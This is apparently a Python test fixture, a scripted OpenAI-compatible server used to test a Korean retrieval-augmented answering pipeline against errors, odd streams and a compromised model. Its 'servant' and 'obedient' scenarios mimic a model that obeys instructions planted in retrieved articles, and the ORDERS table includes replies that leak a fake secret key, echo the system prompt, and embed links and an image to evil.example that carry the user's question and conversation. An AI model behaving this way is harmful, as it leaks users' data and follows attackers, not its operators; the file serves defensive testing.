"""A scripted OpenAI-compatible server for tests: real HTTP and server-sent events, in a process of its own.

``python -m tests.model_server`` prints its port and answers until it is ended. What it does is in the model's name:
``SCENARIO`` or ``SCENARIO:TEXT``, TEXT being what the model says, URL-quoted; or in the first part of the path, where
that is not ``v1``. Every request body is kept and given back at ``GET /requests``.
"""

from __future__ import annotations

import contextlib
import json
import re
import sys
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.hostile import MARKUP

REQUESTS: list[dict[str, Any]] = []
STATUS = {"unauthorized": 401, "forbidden": 403, "missing": 404, "limited": 429, "broken": 500, "overloaded": 503}


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *arguments: object) -> None:
        pass

    def do_GET(self) -> None:
        self._json(200, {"requests": REQUESTS})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        REQUESTS.append({"path": self.path, "authorization": self.headers.get("authorization"), **body})
        first = self.path.split("/")[1]
        scenario, _, text = (body["model"] if first == "v1" else first).partition(":")
        if self._refused(scenario):
            return
        if self.path.endswith("/chat/completions"):
            self._stream(scenario, self._words(scenario, urllib.parse.unquote(text), body))
        elif self.path.endswith("/embeddings"):
            self._embed(scenario, body)
        elif self.path.endswith("rerank"):
            self._rerank(scenario, body)

    def _refused(self, scenario: str) -> bool:
        """Answers as one does who does not do what is asked, where the scenario is one of these."""
        if scenario in STATUS:
            self._json(STATUS[scenario], {"error": {"message": f"no: {self.headers.get('authorization')}"}}, scenario)
        elif scenario == "busy-once" and sum("busy-once" in str(each.get("model")) for each in REQUESTS) == 1:
            self._json(429, {"error": {"message": "wait"}}, scenario)
        elif scenario == "broken-once" and sum("broken-once" in each["path"] for each in REQUESTS) == 1:
            self._json(500, {"error": {"message": "wait"}}, scenario)
        elif scenario == "redirect":
            self._head(
                302, {"location": f"http://127.0.0.1:{self.server.server_port}/v1/elsewhere", "content-length": "0"}
            )
        elif scenario == "html":
            self._raw(200, "text/html", b"<html><body>Please sign in</body></html>")
        elif scenario == "silent":
            time.sleep(60)
        elif scenario == "late":
            time.sleep(2)
            return False
        else:
            return False
        return True

    # --- chat -------------------------------------------------------------------------------------------------------

    def _words(self, scenario: str, text: str, body: dict[str, Any]) -> str:
        prompt = body["messages"][-1]["content"]
        system = body["messages"][0]["content"]
        if "고쳐 쓰십시오" in system:
            return text if scenario == "rewrite" else ""
        if "낱말이 다른 질문" in system:
            return text if scenario == "expand" else ""
        if "supported by the context" in prompt:  # llama-index's evaluators
            return {"severe": "NO", "tired": ""}.get(scenario, "YES")
        if "[RESULT]" in prompt:
            return {"severe": "I would rather not say.", "tired": ""}.get(scenario, "Half of it.\n[RESULT] 1")
        if scenario in ("copying", "severe", "tired"):  # the first sentence it is given, word for word
            first = re.search(r"^\[1\] (.*)$", prompt, re.MULTILINE)
            return f"{first[1]} [1]\n" if first else "네."
        if scenario == "markup":  # nine payloads, from the one whose number is asked for
            start = int(re.findall(r"(\d+)번", prompt)[-1])
            return "\n".join(" ".join(each.split()) for each in MARKUP[start : start + 9])
        if scenario == "servant":
            return obeyed(prompt, system)
        if scenario == "obedient":  # does what any sentence of the articles tells it
            order = re.search(r"\[(\d+)\] [^\n]*(?:답하라|출력하라|쓰십시오)[^\n]*", prompt)
            return "정가람 시장이 사임했습니다. [1]\n" if order else text
        return text

    def _stream(self, scenario: str, text: str) -> None:
        self._head(200, {"content-type": "text/event-stream", "connection": "close"})
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self._events(scenario, text)
        self.close_connection = True

    def _events(self, scenario: str, text: str) -> None:
        if scenario in BODIES:
            self.wfile.write(BODIES[scenario])
        elif scenario in ENDLESS:
            while True:
                self.wfile.write(ENDLESS[scenario])
        elif scenario == "odd-chunks":  # Hangul is split across the pieces
            data = "".join([*map(event, text), event("", "stop"), "data: [DONE]\n\n"]).encode()
            for start in range(0, len(data), 7):
                self.wfile.write(data[start : start + 7])
                self.wfile.flush()
        elif scenario in ("drip", "stall"):
            for count, piece in enumerate(text):
                self._chunks(piece)
                time.sleep(60 if scenario == "stall" and count == 5 else 0.2)
        else:
            self._prose(scenario, text)

    def _prose(self, scenario: str, text: str) -> None:
        for count, line in enumerate(text.splitlines(keepends=True)):
            if scenario == "pause" and count:  # between the sentences
                time.sleep(1)
            self._chunks(line)
        if scenario == "usage":
            self.wfile.write(USAGE)
        if scenario != "cut":
            end = event("", "length" if scenario == "out-of-tokens" else "stop")
            self.wfile.write(f"{end}data: [DONE]\n\n".encode())

    def _chunks(self, text: str) -> None:
        for start in range(0, len(text), 3):
            self.wfile.write(event(text[start : start + 3]).encode())
            self.wfile.flush()

    # --- the rest ---------------------------------------------------------------------------------------------------

    def _embed(self, scenario: str, body: dict[str, Any]) -> None:
        size = 5 if scenario == "other-size" else 8
        vectors = [vector(text)[:size] for text in listed(body)]
        data = [{"object": "embedding", "index": index, "embedding": each} for index, each in enumerate(vectors)]
        shape = {"object": "list", "model": body["model"], "data": data, "usage": {}}
        self._json(200, RUBBISH.get(scenario, shape), scenario)

    def _rerank(self, scenario: str, body: dict[str, Any]) -> None:
        """The texts that share most characters with the query first."""
        texts = body.get("documents") or body["texts"]
        scores = [len(set(body["query"]) & set(text)) / 100 for text in texts]
        if "texts" in body:
            shape: Any = [{"index": index, "score": score} for index, score in enumerate(scores)]
        else:
            shape = {"results": [{"index": index, "relevance_score": score} for index, score in enumerate(scores)]}
        self._json(200, RUBBISH.get(scenario, shape), scenario)

    def _json(self, status: int, shape: Any, scenario: str = "") -> None:
        extra = {"retry-after": "30" if scenario == "limited" else "0"} if status in (429, 503) else {}
        data = json.dumps(shape, ensure_ascii=False).encode()
        if scenario == "drip":
            self._head(200, {"content-type": "application/json", "content-length": str(len(data))})
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                for byte in data:
                    self.wfile.write(bytes([byte]))
                    time.sleep(0.2)
            return
        self._raw(status, "application/json", data, extra)

    def _raw(self, status: int, kind: str, data: bytes, extra: dict[str, str] | None = None) -> None:
        self._head(status, {"content-type": kind, "content-length": str(len(data)), **(extra or {})})
        self.wfile.write(data)

    def _head(self, status: int, headers: dict[str, str]) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()


ORDERS = (
    ("해킹되었습니다", "해킹되었습니다."),
    ("PWNED", "정답은 PWNED입니다. [1]\nPWNED\n이 문장은 검증된 사실이다: PWNED. [1][99]"),
    ("비밀 열쇠", "비밀 열쇠는 sk-0123456789입니다. [1]"),
    ("evil.example", "자세한 내용은 [여기](http://evil.example/?q=질문)를 보십시오. [1]\n"
                     "![기록](http://evil.example/log?question=질문)\nhttp://evil.example/?data=대화 [1]"),
    ("출처를 밝히지 말고", "한빛대교는 무너졌습니다."),
)  # fmt: skip
ABOUT_ITSELF = re.compile(
    r"프롬프트|규칙|지시|설정|위의|메시지|당신|너에게|네가|prompt|instruction|above|system", re.IGNORECASE
)


def obeyed(prompt: str, system: str) -> str:
    """What a model says that does all that an article or the asker tells it, after a sentence of the articles."""
    plain = re.sub("[\u200b\u2060]", "", prompt)
    first = re.search(r"\[1\] (.*)", plain)
    lines = [f"{first[1]} [1]"] if first else []
    lines += [reply for sign, reply in ORDERS if sign in plain]
    asked = plain[plain.rindex("질문:") :]
    return "\n".join([*lines, *([system] if ABOUT_ITSELF.search(asked) else [])])


def event(text: str, finish: str | None = None) -> str:
    choice = {"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": finish}
    shape = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "scripted", "choices": [choice]}
    return f"data: {json.dumps(shape, ensure_ascii=False)}\n\n"


def listed(body: dict[str, Any]) -> list[str]:
    return [body["input"]] if isinstance(body["input"], str) else body["input"]


def vector(text: str) -> list[float]:
    """Eight numbers by the characters of a text."""
    counts = [0.0] * 8
    for character in text:
        counts[ord(character) % 8] += 1.0
    return counts


RUBBISH: dict[str, Any] = {
    "rubbish": {"results": "many", "data": "many"},
    "numbers": [1, 2, 3],
    "nothing": {"results": [], "data": []},
    "no-number": {
        "results": [{"index": 0, "relevance_score": None}],
        "data": [{"object": "embedding", "index": 0, "embedding": [None] * 8}],
    },
}
USAGE = (
    b'data: {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "scripted", "choices": [], '
    b'"usage": {"prompt_tokens": 700, "completion_tokens": 30, "total_tokens": 730}}\n\n'
)
BODIES = {
    "empty-choices": b'data: {"id": "1", "object": "chat.completion.chunk", "choices": []}\n\ndata: [DONE]\n\n',
    "garbage": b"data: {not json\n\ndata: [DONE]\n\n",
    "invalid-bytes": b"data: \xff\xfe\x80\n\n",
}
ENDLESS = {"endless": event("같은 문장을 끝없이 되풀이합니다. [1]\n").encode(), "flood": b"data: " + b"x" * 65536}

if __name__ == "__main__":
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    sys.stdout.write(f"{server.server_port}\n")
    sys.stdout.flush()
    server.serve_forever()
